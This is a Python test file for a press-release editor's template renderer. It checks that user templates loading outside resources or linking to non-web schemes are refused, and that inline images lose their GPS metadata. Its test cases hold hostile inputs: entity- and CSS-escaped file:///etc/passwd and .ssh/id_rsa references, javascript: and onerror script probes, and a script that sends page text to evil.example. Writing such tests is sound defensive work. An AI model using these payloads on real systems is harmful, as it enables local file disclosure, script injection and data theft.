"""A web page template from a stranger loads nothing from outside the page and links
only to the web, mail or phone, however its addresses are written: character references
(``data&#58;``, ``&#x64;ata:``, ``data&colon;``), CSS escapes, tabs inside a scheme, or
an address the template computes while it renders."""

from __future__ import annotations

import base64
import shutil
import time

import pytest
from photo_files import expected_clean_jpeg, gps_jpeg
from render_support import make_bundle

from editor.core import paths
from editor.render import TemplateError, render_html
from editor.render.template_urls import check_page

BUILTIN = "pressemitteilung"


def _html_template(name: str, markup: str) -> None:
    """A user template whose web page has ``markup`` above the content."""
    folder = paths.user_templates_dir() / name
    folder.parent.mkdir(parents=True, exist_ok=True)
    shutil.copytree(paths.builtin_templates_dir() / BUILTIN, folder)
    page = folder / "template.html.j2"
    page.write_text(page.read_text("utf-8").replace(
        "{% block content %}", "{% block content %}" + markup), "utf-8")


@pytest.mark.parametrize("scheme", [
    "data&#58;", "&#x64;ata:", "data&colon;", "&#100;&#x61;ta&#X3A;", "data&#58",
    "da&Tab;ta:", "&#x64;ata&#x3a;",
])
def test_an_inline_logo_written_with_character_references_loses_its_metadata(
        scheme: str) -> None:
    logo = base64.b64encode(gps_jpeg()).decode()
    _html_template("entity-logo", f'<img class="logo" src="{scheme}image/jpeg;base64,{logo}">')
    page = render_html(make_bundle(), "item-1", "entity-logo", ["de"])
    assert logo not in page
    assert base64.b64encode(expected_clean_jpeg()).decode() in page


@pytest.mark.parametrize(("markup", "words"), [
    ('<img src="file:///etc/passwd">', ("file:///etc/passwd", "(src)")),
    ('<img src="&#102;ile:///etc/passwd">', ("file:///etc/passwd",)),
    ('<img src="fi&Tab;le:///etc/passwd">', ("file:///etc/passwd",)),
    ('<img src=&#x66;ile:///etc/passwd>', ("file:///etc/passwd",)),
    ('<img src="/etc/passwd">', ("/etc/passwd",)),
    ('<img src="../../../.ssh/id_rsa">', ("id_rsa",)),
    ('<img src="C:\\Users\\presse\\logo.png">', ("logo.png",)),
    ('<img src="https://tracker.example/pixel.png">', ("tracker.example",)),
    ('<img src="https&#58;//tracker.example/pixel.png">', ("tracker.example",)),
    ('<img src="//tracker.example/pixel.png">', ("tracker.example",)),
    ('<link rel="stylesheet" href="https://evil.example/s.css">', ("evil.example",)),
    ('<iframe src="data:text/html;base64,PHNjcmlwdD4=">', ("data:text/html",)),
    ('<object data="&#x66;ile:///etc/hostname"></object>', ("/etc/hostname",)),
    ('<svg><image xlink:href="file:///etc/hostname"/></svg>', ("/etc/hostname",)),
    ('<p style="background:url(&#102;ile:///etc/passwd)">x</p>', ("file:///etc/passwd",)),
    ('<style>p { background: url("\\66 ile:///etc/passwd") }</style>',
     ("file:///etc/passwd", "style sheet")),
    ("<style>@import 'https://evil.example/s.css';</style>", ("evil.example",)),
    ('<meta http-equiv="refresh" content="0; url=file:///etc/passwd">', ("/etc/passwd",)),
    ('<a href="&#102;ile:///etc/passwd">x</a>', ("file:",)),
    ('<a href="javascript&colon;alert(1)">x</a>', ("javascript:",)),
    ('<a href="/etc/passwd">x</a>', ("full web address",)),
    ('<img srcset="https://tracker.example/p.png 2x">', ("srcset",)),
    ('<img src="#" onerror="alert(1)">', ("onerror",)),
    ("<script>fetch('https://evil.example/?' + document.body.innerText)</script>",
     ("script",)),
    # computed while the page is made: seen on the page
    ("<img src=\"{{ 'fi' ~ 'le:///etc/passwd' }}\">", ("file:///etc/passwd",)),
    ("<img src=\"{{ 'da' ~ 'ta:image/jpeg;base64,' ~ '" + base64.b64encode(gps_jpeg()).decode()
     + "' }}\">", ("holds metadata",)),
])
def test_a_page_that_would_load_or_link_outside_is_refused_naming_the_file(
        markup: str, words: tuple[str, ...]) -> None:
    _html_template("loads-outside", markup)
    with pytest.raises(TemplateError) as caught:
        render_html(make_bundle(), "item-1", "loads-outside", ["de"])
    message = str(caught.value)
    assert "loads-outside" in message and "template.html.j2" in message, message
    assert "\n" not in message
    for word in words:
        assert word in message, message


def test_links_to_the_web_mail_and_the_page_itself_are_fine() -> None:
    _html_template("fine-links", '<a href="https://www.example.org/presse">web</a>'
                   '<a href="mailto:presse@example.org">mail</a><a href="#top">top</a>'
                   '<a href="https://www.example.org/?a=1&amp;b=2">query</a>')
    page = render_html(make_bundle(), "item-1", "fine-links", ["de"])
    assert 'href="https://www.example.org/presse"' in page and 'href="#top"' in page


def test_a_page_of_huge_and_deeply_nested_tags_is_checked_quickly() -> None:
    page = ("<div>" * 100_000 + "x" + "</div>" * 100_000
            + '<p title="' + "a" * 5_000_000 + '">y</p>')
    started = time.perf_counter()
    check_page(page, "page.html", rendered=True)
    assert time.perf_counter() - started < 5
